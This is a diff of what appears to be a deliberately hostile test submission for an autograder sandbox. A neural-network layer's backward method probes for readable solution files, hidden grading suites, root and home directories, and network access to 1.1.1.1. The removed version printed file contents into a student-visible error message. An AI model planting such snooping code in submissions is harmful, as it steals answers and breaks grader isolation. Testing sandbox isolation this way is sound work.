@@ -1,29 +1,31 @@
-# tries: to read the solutions, the hidden suites, home directories and the network, and to show what it found
+# tries: to read the solutions, the hidden suites and home directories, and to use the network
 import numpy as np
 
 import glob
 import os
 import socket
 
+SECRETS = ["/work/*/solutions/*.py", "/work/*/grading/judge/suites/*.py", "/root/.*",
+           "/home/*/*", "/proc/1/cwd/*", "/proc/*/cwd/solutions/*.py"]
+
 
 def look_around():
-    """Everything it can find goes into the error message, which the student sees."""
-    found = []
-    patterns = ["/work/*/solutions/*.py", "/work/*/grading/judge/suites/*.py",
-                "/root/*", "/home/*/*", "/proc/1/cwd/*", "/proc/*/cwd/solutions/*.py"]
-    for pattern in patterns:
-        for path in glob.glob(pattern)[:3]:
+    """How much it could read, and whether the network answered: the error message
+    (which the student sees) would be the way out."""
+    readable = 0
+    for pattern in SECRETS:
+        for path in glob.glob(pattern)[:20]:
             try:
-                with open(path) as f:
-                    found.append(f"{path}: {f.read(60)!r}")
-            except OSError as exc:
-                found.append(f"{path}: {exc}")
+                with open(path, "rb") as f:
+                    readable += bool(f.read(1))
+            except OSError:
+                pass
     try:
-        socket.create_connection(("1.1.1.1", 80), timeout=1).close()
-        found.append("network: reached 1.1.1.1:80")
+        socket.create_connection(("1.1.1.1", 53), timeout=0.5).close()
+        network = "connected"
     except OSError as exc:
-        found.append(f"network: {exc}")
-    return found
+        network = type(exc).__name__
+    return f"snooped: {readable} files readable; network: {network}"
 
 
 class MatMul:
@@ -37,7 +39,7 @@ class MatMul:
         return np.dot(x, self.params[0])
 
     def backward(self, dout):
-        raise RuntimeError('found: ' + ' | '.join(look_around()))
+        raise RuntimeError(look_around())
 
 
 class Sigmoid:
